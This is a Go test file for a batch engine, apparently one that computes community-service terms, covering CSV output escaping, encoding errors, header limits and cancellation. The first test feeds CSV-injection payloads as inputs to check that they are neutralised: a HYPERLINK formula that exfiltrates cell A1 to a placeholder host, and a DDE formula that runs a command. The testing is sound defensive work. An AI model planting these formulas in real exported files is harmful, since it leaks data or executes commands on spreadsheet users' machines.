package lpu_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/lpu-it/lpu/lpu"
)

// TestLottoFormuleNeutralizzate: a text cell of a CSV answer that starts
// with = + - @, a tab or a carriage return comes back with a leading
// single quote (OWASP, CSV injection), so that a spreadsheet shows it as
// text; the numbers the engine writes stay numbers.
func TestLottoFormuleNeutralizzate(t *testing.T) {
	e := engine(t)
	pericolosi := []string{
		`=HYPERLINK("http://esempio.invalid/?x="&A1,"clic")`,
		`=cmd|' /C calc'!A0`,
		"=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", "-5",
	}
	for _, v := range pericolosi {
		for _, c := range []struct{ nome, colonna, corpo string }{
			{"rif", "rif", `{"rif":` + q(v) + `,"fattispecie":"cds186","data":"2025-06-10","pena":{"ammenda":"1500"}}`},
			{"fattispecie", "fattispecie", `{"fattispecie":` + q(v) + `}`},
			// (a tipo not allowed is not echoed, its message quotes it:
			// TestLottoTipoNonAmmesso; every cell is checked below)
			{"tipo", "", `{"tipo":` + q(v) + `,"fattispecie":"cds186"}`},
			{"campo sconosciuto", "errore_campo", `{"fattispecie":"cds186",` + q(v) + `:1}`},
		} {
			t.Run(c.nome+" "+q(v), func(t *testing.T) {
				var out bytes.Buffer
				if _, err := e.Lotto(context.Background(), strings.NewReader("["+c.corpo+"]"), &out, lpu.LottoOptions{Formato: "csv"}); err != nil {
					t.Fatal(err)
				}
				r := leggiEsitiCSV(t, out.Bytes(), ',')[0]
				if c.colonna == "" {
					if r["tipo"] != "" || r["errore_codice"] != "valore_non_ammesso" {
						t.Errorf("tipo = %q, errore_codice = %q; want \"\", valore_non_ammesso", r["tipo"], r["errore_codice"])
					}
				} else if got := r[c.colonna]; !strings.HasPrefix(got, "'") || !strings.Contains(got, strings.TrimLeft(v, "\t\r")) {
					t.Errorf("%s = %q; want %q with a leading '", c.colonna, got, v)
				}
				for col, cella := range r {
					if cella != "" && strings.ContainsRune("=+-@\t\r", rune(cella[0])) {
						t.Errorf("cell %s = %q starts with a formula prefix", col, cella)
					}
				}
			})
		}
	}
	// The numbers stay numbers, and a safe text is left alone.
	var out bytes.Buffer
	if _, err := e.Lotto(context.Background(), strings.NewReader("rif,fattispecie,data,arresto_mesi,arresto_giorni,ammenda\nUEPE 1/2025,cds186,10/06/2025,1,15,1500\n"),
		&out, lpu.LottoOptions{}); err != nil {
		t.Fatal(err)
	}
	r := leggiEsitiCSV(t, out.Bytes(), ',')[0]
	if r["riga"] != "2" || r["giorni"] != "51" || r["ore"] != "102" || r["ore_settimanali_max"] != "6" || r["rif"] != "UEPE 1/2025" ||
		r["premio_stimato"] != "52.02" {
		t.Errorf("riga = %v", r)
	}
}

// TestLottoTestoNonValido: NUL in an echoed cell comes back as U+FFFD,
// never as it was; bytes that are not UTF-8 make the input Windows-1252
// (Excel's Italian export), read as such, or, when the input is said to be
// UTF-8, an error of the row: never invalid UTF-8 in the answer.
func TestLottoTestoNonValido(t *testing.T) {
	e := engine(t)
	for _, c := range []struct{ rif, codifica, want, codice string }{
		{"a\x00b", "", "a\uFFFDb", ""},
		{"=\x00", "", "'=\uFFFD", ""},
		{"a\xffb", "", "aÿb", ""},
		{"\xc3", "", "Ã", ""},
		{"a\xffb", "utf-8", "", "codifica_non_valida"},
	} {
		var in bytes.Buffer
		cw := csv.NewWriter(&in)
		cw.Write([]string{"rif", "fattispecie", "ammenda"})
		cw.Write([]string{c.rif, "cds186", "1500"})
		cw.Flush()
		var out bytes.Buffer
		if _, err := e.Lotto(context.Background(), &in, &out, lpu.LottoOptions{Codifica: c.codifica}); err != nil {
			t.Fatal(err)
		}
		if bytes.IndexByte(out.Bytes(), 0) >= 0 || !utfValido(out.Bytes()) {
			t.Errorf("rif %q: the answer carries NUL or invalid UTF-8", c.rif)
		}
		r := leggiEsitiCSV(t, out.Bytes(), ',')[0]
		if r["rif"] != c.want || r["errore_codice"] != c.codice {
			t.Errorf("rif %q (codifica %q) came back as %q, error %q; want %q, error %q", c.rif, c.codifica, r["rif"], r["errore_codice"], c.want, c.codice)
		}
	}
}

func q(s string) string { b, _ := json.Marshal(s); return string(b) }

func utfValido(b []byte) bool { return strings.ToValidUTF8(string(b), "") == string(b) }

// TestLottoIntestazioneLimitata: a header of 100,000 columns, or with a
// name of 10,000 bytes, is refused with a coded error that quotes a few
// names, cut short; it used to quote every name. (Under -race 10,000
// columns, twenty times the limit of 500: the same error and message;
// the 100,000 run without -race, in go test ./... and in make test,
// DIFFERENZIALI.)
func TestLottoIntestazioneLimitata(t *testing.T) {
	e := engine(t)
	lungo := strings.Repeat("x", 10000)
	colonne := 100000
	if raceAttivo {
		colonne = 10000
	}
	molte := make([]string, colonne)
	for i := range molte {
		molte[i] = fmt.Sprintf("colonna_%d", i)
	}
	poche := append([]string{"fattispecie"}, molte[:50]...)
	for _, c := range []struct {
		nome, testa, codice string
	}{
		{"troppe colonne", "fattispecie," + strings.Join(molte, ","), "troppe_colonne"},
		{"nome lungo", "fattispecie," + lungo, "colonna_troppo_lunga"},
		{"50 colonne sconosciute", strings.Join(poche, ","), "colonna_sconosciuta"},
		{"colonna ripetuta lunga", "fattispecie," + lungo[:90] + "," + lungo[:90], "colonna_ripetuta"},
	} {
		t.Run(c.nome, func(t *testing.T) {
			_, err := e.Lotto(context.Background(), strings.NewReader(c.testa+"\ncds186\n"), &bytes.Buffer{}, lpu.LottoOptions{})
			var le *lpu.Error
			if !errors.As(err, &le) || string(le.Code) != c.codice {
				t.Fatalf("err = %v; want code %s", err, c.codice)
			}
			// What the error quotes of the header, before the columns
			// the rules accept (their list grows with the vocabulary).
			citato, _, _ := strings.Cut(le.Message, "; colonne del calcolo:")
			if len(citato) > 1500 || len(le.Field) > 60 || strings.Contains(le.Message, lungo[:100]) || strings.Contains(le.Message, "colonna_10,") {
				t.Errorf("the error quotes too much (%d bytes, campo %d): %.300s", len(citato), len(le.Field), le.Message)
			}
		})
	}
}

// cancellaAlPrimo cancels a context at the first write it gets.
type cancellaAlPrimo struct {
	bytes.Buffer
	cancel context.CancelFunc
}

func (c *cancellaAlPrimo) Write(p []byte) (int, error) {
	c.cancel()
	return c.Buffer.Write(p)
}

// TestLottoContesto: a cancelled context stops a 100,000-row batch between
// rows; the error wraps context.Canceled (or DeadlineExceeded), the stats
// say it was interrupted, and the answer, still well formed, ends with a
// result of code lotto_interrotto that counts the results before it.
func TestLottoContesto(t *testing.T) {
	e := engine(t)
	for _, formato := range []string{"csv", "json"} {
		t.Run("annullato "+formato, func(t *testing.T) {
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			w := &cancellaAlPrimo{cancel: cancel}
			inizio := time.Now()
			st, err := e.Lotto(ctx, generaCSV(100000), w, lpu.LottoOptions{Formato: formato})
			interrotto(t, err, lpu.CodeLottoInterrotto, context.Canceled)
			if !st.Interrotto || !st.Annullato || st.Casi >= 100000 {
				t.Errorf("stat = %+v; want interrupted well before 100,000", st)
			}
			if d := time.Since(inizio); d > 5*time.Second {
				t.Errorf("stopping took %v", d)
			}
			var ultimo map[string]string
			if formato == "csv" {
				righe := leggiEsitiCSV(t, w.Bytes(), ';')
				if len(righe) != st.Casi+1 {
					t.Errorf("%d rows written; stat says %d results and the final one", len(righe), st.Casi)
				}
				ultimo = righe[len(righe)-1]
			} else {
				var esiti []lpu.EsitoLotto
				if err := json.Unmarshal(w.Bytes(), &esiti); err != nil {
					t.Fatalf("answer not JSON: %v", err)
				}
				if len(esiti) != st.Casi+1 {
					t.Errorf("%d results; stat says %d and the final one", len(esiti), st.Casi)
				}
				f := esiti[len(esiti)-1]
				ultimo = map[string]string{"riga": fmt.Sprint(f.Riga), "tipo": f.Tipo, "errore_codice": string(f.Errore.Code), "errore_messaggio": f.Errore.Message}
			}
			if ultimo["riga"] != "0" || ultimo["tipo"] != "lotto" || ultimo["errore_codice"] != string(lpu.CodeLottoInterrotto) ||
				!strings.Contains(ultimo["errore_messaggio"], fmt.Sprintf("dopo %d esiti", st.Casi)) {
				t.Errorf("final result = %v", ultimo)
			}
		})
	}
	t.Run("tempo scaduto", func(t *testing.T) {
		ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
		defer cancel()
		var out bytes.Buffer
		st, err := e.Lotto(ctx, generaCSV(100000), &out, lpu.LottoOptions{})
		if !errors.Is(err, context.DeadlineExceeded) || !st.Annullato || st.Casi >= 100000 {
			t.Fatalf("err = %v, stat %+v; want DeadlineExceeded before the end", err, st)
		}
		interrotto(t, err, lpu.CodeLottoInterrotto, context.DeadlineExceeded)
		if !bytes.Contains(out.Bytes(), []byte("superato il tempo massimo")) {
			t.Errorf("the final row does not say why: %q", out.Bytes()[max(0, out.Len()-300):])
		}
	})
	t.Run("contesto già annullato", func(t *testing.T) {
		ctx, cancel := context.WithCancel(context.Background())
		cancel()
		var out bytes.Buffer
		st, err := e.Lotto(ctx, generaCSV(1000), &out, lpu.LottoOptions{})
		if !errors.Is(err, context.Canceled) || st.Casi != 0 {
			t.Fatalf("err = %v, stat %+v", err, st)
		}
		interrotto(t, err, lpu.CodeLottoInterrotto, context.Canceled)
	})
}

// interrotto checks that err is what a context done gives: an *Error of
// code codice and KindCanceled, that errors.Is tells by its code and by
// the context's error causa.
func interrotto(t *testing.T, err error, codice lpu.Code, causa error) {
	t.Helper()
	var e *lpu.Error
	if !errors.As(err, &e) || e.Kind != lpu.KindCanceled || e.Code != codice || !errors.Is(err, codice) || !errors.Is(err, causa) {
		t.Errorf("err = %#v (%v); want an *lpu.Error of code %s, KindCanceled, wrapping %v", err, err, codice, causa)
	}
}

// TestLottoCodificaCelleLette: with the input said to be UTF-8, a byte
// that is not UTF-8 in a column the lotto ignores (ignora colonne: a
// «Note») does not refuse the row, since the cell is not read; in a cell
// that is read the row is refused, and its result still names the row
// by the cells that read well: its rif, its tipo, its fattispecie (it
// came back with no rif, tipo calcolo and no fattispecie).
func TestLottoCodificaCelleLette(t *testing.T) {
	e := engine(t)
	for _, c := range []struct {
		nome, riga, esito, codice string
	}{
		{"colonna ignorata", "R1;fondo;cds186;10/06/2025;dm2001;30;citt\xe0 di Forl\xec", "ok", ""},
		{"colonna letta", "R1;fondo;cds186;10/06/2025;dm2001\xec;30;nota", "errore", "codifica_non_valida"},
	} {
		t.Run(c.nome, func(t *testing.T) {
			in := "rif;tipo;fattispecie;data;convenzione;giorni;note\n" + c.riga + "\n"
			var out bytes.Buffer
			if _, err := e.Lotto(context.Background(), strings.NewReader(in), &out, lpu.LottoOptions{Codifica: "utf-8", IgnoraColonne: true, Separatore: ','}); err != nil {
				t.Fatal(err)
			}
			r := leggiEsitiCSV(t, out.Bytes(), ',')[0]
			if r["esito"] != c.esito || r["errore_codice"] != c.codice || r["rif"] != "R1" || r["tipo"] != "fondo" || r["fattispecie"] != "cds186" {
				t.Errorf("esito %q %q (%s), rif %q, tipo %q, fattispecie %q; want %q %q, R1, fondo, cds186",
					r["esito"], r["errore_codice"], r["errore_messaggio"], r["rif"], r["tipo"], r["fattispecie"], c.esito, c.codice)
			}
		})
	}
}
